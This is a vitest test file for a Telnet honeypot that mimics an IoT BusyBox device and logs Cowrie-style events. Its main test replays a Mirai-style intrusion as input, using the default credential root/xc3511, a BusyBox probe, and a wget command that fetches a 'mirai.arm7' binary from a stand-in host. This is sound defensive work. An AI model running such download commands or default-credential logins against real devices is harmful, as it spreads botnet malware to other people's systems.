import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { HoneypotEvent } from '../log/event.js';
import { rawClient } from '../limits/test-support/raw-client.js';
import { aServiceDeps } from '../limits/test-support/service-deps.js';
import type { RunningService } from '../service.js';
import { DO, IAC, OPT_ECHO, SB, SE, WILL, WONT, DONT } from './iac.js';
import { startTelnetService } from './telnet-service.js';

const deps = aServiceDeps({ idleTimeoutMs: 2000 });
let service: RunningService;
beforeAll(async () => {
  service = await startTelnetService({ host: '127.0.0.1', port: 0 }, deps);
});
afterAll(async () => {
  await service.close();
});

describe('Telnet honeypot with a raw TCP client', () => {
  it('negotiates options, logs in and answers BusyBox probes like an IoT device', async () => {
    const c = await rawClient(service.port);
    await c.waitFor('svr04 login: ');
    expect(c.received().subarray(0, 3).equals(Buffer.from([IAC, WILL, OPT_ECHO]))).toBe(true);
    // A client offering NAWS and asking for TTYPE, with a subnegotiation in the middle of the user name.
    c.send(Buffer.concat([Buffer.from([IAC, WILL, 31, IAC, DO, 24, IAC, DO, OPT_ECHO]), Buffer.from('ro'), Buffer.from([IAC, SB, 31, 0, 80, 0, 24, IAC, SE]), Buffer.from('ot\r\n')]));
    await c.waitFor('Password: ');
    const afterUser = c.received();
    expect(afterUser.includes(Buffer.from([IAC, DONT, 31]))).toBe(true);
    expect(afterUser.includes(Buffer.from([IAC, WONT, 24]))).toBe(true);
    expect(afterUser.includes(Buffer.from([IAC, WONT, OPT_ECHO]))).toBe(false);
    c.send('xc3511\r\n');
    await c.waitFor('# ');
    expect(c.text()).not.toContain('xc3511');
    c.send('enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n');
    await c.waitFor('ECCHI: applet not found');
    c.send("cat /proc/mounts; echo -e '\\x6b\\x61\\x6d\\x69'\r\n");
    await c.waitFor('kami');
    expect(c.text()).toContain('/dev/sda1 / ext4');
    c.send('wget http://198.51.100.7/bins/mirai.arm7 -O /tmp/m; nonexistent\r\n');
    await c.waitFor('-sh: nonexistent: not found');
    expect(c.text()).toContain("wget: can't connect to remote host (198.51.100.7): Connection refused");
    c.send('exit\r\n');
    await c.closed;

    const closed = await deps.sink.waitFor((e) => e.eventid === 'cowrie.session.closed');
    const events = deps.sink.events.filter((e) => e.session === closed.session);
    expect(events.every((e) => e.protocol === 'telnet')).toBe(true);
    expect(events.find((e) => e.eventid === 'cowrie.login.success')).toMatchObject({ username: 'root', password: 'xc3511' });
    const inputs = events.filter((e) => e.eventid === 'cowrie.command.input').map((e) => (e as HoneypotEvent<'cowrie.command.input'>).input);
    expect(inputs).toEqual(['enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI', "cat /proc/mounts; echo -e '\\x6b\\x61\\x6d\\x69'", 'wget http://198.51.100.7/bins/mirai.arm7 -O /tmp/m; nonexistent', 'exit']);
    expect(events.find((e) => e.eventid === 'cowrie.session.file_download')).toMatchObject({ url: 'http://198.51.100.7/bins/mirai.arm7', destfile: '/tmp/m' });
    expect(events.filter((e) => e.eventid === 'cowrie.command.failed').map((e) => (e as HoneypotEvent<'cowrie.command.failed'>).input)).toEqual(['busybox ECCHI', 'nonexistent']);
    expect(events.find((e) => e.eventid === 'cowrie.log.closed')).toBeDefined();
  });

  it('refuses root/root, drops after three failures and logs each', async () => {
    const c = await rawClient(service.port);
    await c.waitFor('login: ');
    c.send('root\r\nroot\r\nadmin\r\nadmin\r\nroot\r\n123456\r\n');
    await c.closed;
    expect(c.text().match(/Login incorrect/g)).toHaveLength(3);
    const failed = deps.sink.byId('cowrie.login.failed').filter((e) => e.protocol === 'telnet').map((e) => `${e.username}/${e.password}`);
    expect(failed).toEqual(expect.arrayContaining(['root/root', 'admin/admin', 'root/123456']));
  });

  it('closes an idle session', async () => {
    const c = await rawClient(service.port);
    await c.waitFor('login: ');
    const start = Date.now();
    await c.closed;
    expect(Date.now() - start).toBeGreaterThanOrEqual(1500);
  });
});
